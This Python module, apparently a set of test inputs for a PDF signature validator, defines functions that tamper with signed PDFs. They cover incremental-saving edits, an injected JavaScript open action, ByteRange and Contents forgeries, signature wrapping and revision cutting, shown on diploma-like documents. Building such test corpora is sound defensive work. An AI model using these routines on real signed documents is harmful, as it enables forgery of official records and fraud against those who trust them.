"""What an attacker does to a signed PDF. Each function takes genuine bytes and returns hostile ones.

The families are those of the literature on PDF signatures (universal forgery, incremental saving, signature wrapping, shadow
attacks, evil annotation) and what viewers and validators let pass.
"""

import io
import re
from collections.abc import Callable
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

OVERLAY = b"q 1 1 0.6 rg 80 400 420 60 re f Q BT /F0 18 Tf 0 g 90 420 Td (Loai gioi) Tj ET"
RANGE = re.compile(rb"/ByteRange \[([ 0-9]+)\]")


def append(document: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """One more revision, written as any PDF program would."""
    stream = io.BytesIO(document)
    writer = IncrementalPdfFileWriter(stream, strict=False)
    change(writer)
    writer.write_in_place()
    return stream.getvalue()


def fields(writer: IncrementalPdfFileWriter) -> dict[str, Any]:
    return {str(field.get_object()["/T"]): field.get_object() for field in writer.root["/AcroForm"]["/Fields"]}


def page(writer: IncrementalPdfFileWriter) -> Any:
    return writer.find_page_for_modification(0)[0].get_object()


def drawing(content: bytes = OVERLAY) -> generic.StreamObject:
    return generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 600, 800))),
        },
        stream_data=content,
    )


# Incremental saving -------------------------------------------------------------------------------------------------
def replace_page_content(writer: IncrementalPdfFileWriter) -> None:
    target = page(writer)
    target[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=OVERLAY))
    writer.update_container(target)


def add_a_page(writer: IncrementalPdfFileWriter) -> None:
    fresh = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): page(writer)["/MediaBox"],
            pdf_name("/Contents"): writer.add_object(generic.StreamObject(stream_data=OVERLAY)),
        }
    )
    pages = writer.root["/Pages"]
    fresh[pdf_name("/Parent")] = writer.root.raw_get("/Pages")
    pages["/Kids"].append(writer.add_object(fresh))
    pages[pdf_name("/Count")] = generic.NumberObject(pages["/Count"] + 1)
    writer.update_container(pages)


def rotate_the_page(writer: IncrementalPdfFileWriter) -> None:
    target = page(writer)
    target[pdf_name("/Rotate")] = generic.NumberObject(180)
    writer.update_container(target)


def put_a_note_over_it(writer: IncrementalPdfFileWriter) -> None:
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Stamp"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (80, 400, 500, 460))),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(drawing())}),
        }
    )
    writer.register_annotation(writer.find_page_for_modification(0)[0], writer.add_object(note))


def change_a_value(writer: IncrementalPdfFileWriter) -> None:
    field = fields(writer)["SoVaoSo"]
    field[pdf_name("/V")] = pdf_string("0413/2026")
    writer.update_container(field)


def change_an_appearance(writer: IncrementalPdfFileWriter) -> None:
    field = fields(writer)["SoVaoSo"]
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(drawing())})
    writer.update_container(field)


def redraw_the_signature(writer: IncrementalPdfFileWriter) -> None:
    field = fields(writer)["LanhDao"]
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(drawing())})
    writer.update_container(field)


def move_the_seal(writer: IncrementalPdfFileWriter) -> None:
    field = fields(writer)["CoQuan"]
    field[pdf_name("/Rect")] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 600, 800)))
    writer.update_container(field)


def change_the_font(writer: IncrementalPdfFileWriter) -> None:
    font = writer.root["/AcroForm"]["/DR"]["/Font"]["/LiberationSerif"]
    font[pdf_name("/BaseFont")] = pdf_name("/Evil")
    writer.update_container(font)


# What can act or be drawn anew --------------------------------------------------------------------------------------
def let_viewers_redraw(writer: IncrementalPdfFileWriter) -> None:
    form = writer.root["/AcroForm"]
    form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
    writer.update_container(form)


def run_a_script(writer: IncrementalPdfFileWriter) -> None:
    action = {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("app.alert(1)")}
    writer.root[pdf_name("/OpenAction")] = generic.DictionaryObject(action)
    writer.update_root()


def add_layers(writer: IncrementalPdfFileWriter) -> None:
    layer = writer.add_object(
        generic.DictionaryObject({pdf_name("/Type"): pdf_name("/OCG"), pdf_name("/Name"): pdf_string("x")})
    )
    writer.root[pdf_name("/OCProperties")] = generic.DictionaryObject(
        {pdf_name("/OCGs"): generic.ArrayObject([layer]), pdf_name("/D"): generic.DictionaryObject()}
    )
    writer.update_root()


def change_the_title(writer: IncrementalPdfFileWriter) -> None:
    information = writer.trailer["/Info"]
    information[pdf_name("/Title")] = pdf_string("Bằng tốt nghiệp loại giỏi")
    writer.update_container(information)


def drop_the_certification(writer: IncrementalPdfFileWriter) -> None:
    del writer.root["/Perms"]
    writer.update_root()


def drop_the_proof(writer: IncrementalPdfFileWriter) -> None:
    del writer.root["/DSS"]
    writer.update_root()


def add_an_empty_field(writer: IncrementalPdfFileWriter) -> None:
    append_signature_field(writer, SigFieldSpec("KeXau", on_page=0, box=(10, 10, 200, 100)))


# Universal forgery: the signature is still there, what it says it covers is not -------------------------------------
def rewrite_signature(
    change: Callable[[Any], None], name: str = "CoQuan"
) -> Callable[[IncrementalPdfFileWriter], None]:
    def rewrite(writer: IncrementalPdfFileWriter) -> None:
        value = fields(writer)[name]["/V"]
        change(value)
        writer.update_container(value)

    return rewrite


def ranges(*numbers: int) -> generic.ArrayObject:
    return generic.ArrayObject(map(generic.NumberObject, numbers))


def without_range(value: Any) -> None:
    del value["/ByteRange"]


def without_contents(value: Any) -> None:
    del value["/Contents"]


def empty_contents(value: Any) -> None:
    value[pdf_name("/Contents")] = generic.ByteStringObject(b"\x00")


def whole_file_range(value: Any) -> None:
    value[pdf_name("/ByteRange")] = ranges(0, 999_999, 999_999, 0)


def negative_range(value: Any) -> None:
    value[pdf_name("/ByteRange")] = ranges(0, 100, 200, -5)


def null_range(value: Any) -> None:
    value[pdf_name("/ByteRange")] = generic.NullObject()


# Bytes ----------------------------------------------------------------------------------------------------------------
def last_range(document: bytes) -> tuple[re.Match[bytes], list[int]]:
    match = list(RANGE.finditer(document))[-1]
    return match, [int(number) for number in match.group(1).split()]


def with_last_range(document: bytes, numbers: list[int]) -> bytes:
    """Other numbers in the last ByteRange, padded to the same length."""
    match, _old = last_range(document)
    text = b" ".join(str(number).encode() for number in numbers)
    return document[: match.start(1)] + text.ljust(len(match.group(1))) + document[match.end(1) :]


def wrap_signature(document: bytes) -> bytes:
    """Signature wrapping: push the second signed part back and put one's own bytes between."""
    _match, (start, first, second, rest) = last_range(document)
    inserted = b"\n99 0 obj\n<< /Evil true >>\nendobj\n"
    moved = document[:second] + inserted + document[second:]
    return with_last_range(moved, [start, first, second + len(inserted), rest])


def wrap_inside_gap(document: bytes) -> bytes:
    """The same, but the foreign bytes stand in the gap before the signature."""
    _match, (start, first, second, rest) = last_range(document)
    evil = b"<00>" + document[first:second]
    moved = document[:first] + evil + document[second:]
    return with_last_range(moved, [start, first, first + len(evil), rest])


def fill_the_padding(document: bytes) -> bytes:
    """Bytes that nobody signed, behind the last signature in its own place."""
    _match, (_start, _first, second, _rest) = last_range(document)
    return document[: second - 9] + b"deadbeef" + document[second - 1 :]


def change_the_case(document: bytes) -> bytes:
    """One hexadecimal letter in the last signature's place, small instead of capital or the reverse: the value is the same."""
    _match, (_start, first, second, _rest) = last_range(document)
    place = next(at for at in range(first, second) if document[at : at + 1].isalpha())
    return document[:place] + document[place : place + 1].swapcase() + document[place + 1 :]


def change_every_case(document: bytes) -> bytes:
    """All of them: regular again, and still another file."""
    _match, (_start, first, second, _rest) = last_range(document)
    return document[:first] + document[first:second].swapcase() + document[second:]


def hide_the_stamp(document: bytes) -> bytes:
    """Of an unknown kind: readers pass over it, and what it covered is free."""
    return document[::-1].replace(b"ETSI.RFC3161"[::-1], b"ETSI.XXX3161"[::-1], 1)[::-1]


def stretch_a_length(document: bytes) -> bytes:
    """The last signature says that it is longer than it is; the zeros behind it are taken for a part of it."""
    _match, (_start, first, _second, _rest) = last_range(document)
    digit = b"1" if document[first + 5 : first + 6] == b"0" else b"0"
    return document[: first + 5] + digit + document[first + 6 :]


def second_end(document: bytes) -> bytes:
    """A revision without anything in it: an index that points at the old one."""
    place = re.findall(rb"startxref\s+(\d+)", document)[-1]
    return document + b"startxref\n" + place + b"\n%%EOF\n"


def foreign_revision(document: bytes) -> bytes:
    """New objects behind the end with no index: some viewers rebuild one and show them."""
    return document + b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n%%EOF\n"


def cut_last_revision(document: bytes) -> bytes:
    """Back to an earlier revision, as if the rest had never been added."""
    ends = [match.end() for match in re.finditer(rb"%%EOF\n", document)]
    return document[: ends[-2]]
